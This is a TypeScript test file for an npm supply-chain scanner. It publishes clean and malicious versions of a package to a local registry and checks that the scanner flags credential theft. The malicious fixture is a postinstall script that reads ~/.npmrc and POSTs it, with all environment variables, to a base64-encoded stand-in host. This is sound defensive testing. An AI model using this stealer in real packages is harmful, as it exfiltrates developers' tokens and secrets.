import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Report } from '../../src/index.js'
import { stagelight } from '../helpers/cli.js'
import { startRegistry, type LocalRegistry } from '../helpers/registry.js'

let registry: LocalRegistry
let root: string

async function scanJson(spec: string, extra: readonly string[] = []): Promise<{ code: number | null; report: Report | undefined; stderr: string }> {
  const r = await stagelight(['scan', spec, '--registry', registry.url, '--format', 'json', '--cache-dir', join(root, 'cache'), ...extra], { cwd: root, env: { HOME: root } })
  let report: Report | undefined
  try {
    report = JSON.parse(r.stdout) as Report
  } catch {
    report = undefined
  }
  return { code: r.code, report, stderr: r.stderr }
}

/** An installer that reads the user's npm token and sends it to a host whose name is stored base64-encoded. */
const STEALER = `const fs = require('fs')
const os = require('os')
const path = require('path')
const https = require('https')
const cfg = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')
const host = Buffer.from('ZXhmaWwuZXhhbXBsZS5uZXQ=', 'base64').toString()
const req = https.request({ host, path: '/c', method: 'POST' })
req.end(JSON.stringify({ cfg, env: process.env }))
`

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'stagelight-scan-npm-'))
  registry = await startRegistry()
  await registry.publish('alice', { name: 'tidy-strings', version: '1.0.0', main: 'index.js' }, { 'index.js': "module.exports = (s) => String(s).trim()\n" })
  await registry.publish(
    'mallory',
    { name: 'tidy-strings', version: '1.0.1', main: 'index.js', scripts: { postinstall: 'node scripts/setup.js' } },
    { 'index.js': "module.exports = (s) => String(s).trim()\n", 'scripts/setup.js': STEALER },
  )
  await registry.publish('alice', { name: '@acme/native-thing', version: '2.0.0', gypfile: true, scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{"targets":[{"target_name":"x","sources":["x.cc"]}]}', 'x.cc': 'int x;\n' })
}, 900_000)

afterAll(async () => {
  await registry?.stop()
  rmSync(root, { recursive: true, force: true })
})

describe('scan npm:name@version against a real registry', () => {
  it('passes the clean version and fails the version whose install script steals credentials', async () => {
    const clean = await scanJson('npm:tidy-strings@1.0.0')
    expect(clean.code).toBe(0)
    expect(clean.report?.facts.find((f) => f.label === 'package')?.value).toBe('tidy-strings@1.0.0')
    expect(clean.report?.findings.filter((f) => f.severity !== 'info')).toEqual([])

    const bad = await scanJson('npm:tidy-strings@1.0.1')
    expect(bad.code).toBe(1)
    expect(bad.report?.verdict).toBe('fail')
    const high = bad.report?.findings.filter((f) => f.severity === 'high' || f.severity === 'critical') ?? []
    expect(high.map((f) => f.ruleId)).toEqual(expect.arrayContaining(['npm/credential-exfiltration']))
    expect(high.some((f) => f.path === 'scripts/setup.js')).toBe(true)
    expect(bad.report?.findings.find((f) => f.ruleId === 'npm/install-script')?.evidence).toContain('node scripts/setup.js')
  })

  it('resolves dist-tags and ranges like npm', async () => {
    const latest = await scanJson('npm:tidy-strings')
    expect(latest.report?.facts.find((f) => f.label === 'package')?.value).toBe('tidy-strings@1.0.1')
    const range = await scanJson('npm:tidy-strings@~1.0.0')
    expect(range.report?.facts.find((f) => f.label === 'package')?.value).toBe('tidy-strings@1.0.1')
  })

  it('rates a native build step as information, not a threat', async () => {
    const native = await scanJson('npm:@acme/native-thing@2.0.0')
    expect(native.code).toBe(0)
    const install = native.report?.findings.find((f) => f.ruleId === 'npm/install-script')
    expect(install?.severity).toBe('info')
  })

  it('works offline from its cache once fetched, and says clearly when a package is not cached', async () => {
    await scanJson('npm:tidy-strings@1.0.0')
    const offline = await scanJson('npm:tidy-strings@1.0.0', ['--offline'])
    expect(offline.code).toBe(0)
    const missing = await scanJson('npm:left-pad@1.3.0', ['--offline'])
    expect(missing.code).toBe(3)
    expect(missing.stderr).toContain('--offline')
  })

  it('exits 2 with one line for an unknown package, an unknown version, or a malformed spec', async () => {
    const unknown = await scanJson('npm:no-such-package-here@1.0.0')
    expect(unknown.code).toBe(2)
    expect(unknown.stderr).toContain('no such package')
    const version = await scanJson('npm:tidy-strings@9.9.9')
    expect(version.code).toBe(2)
    expect(version.stderr).toContain('1.0.1')
    const malformed = await scanJson('npm:Not A Name')
    expect(malformed.code).toBe(2)
  })
})
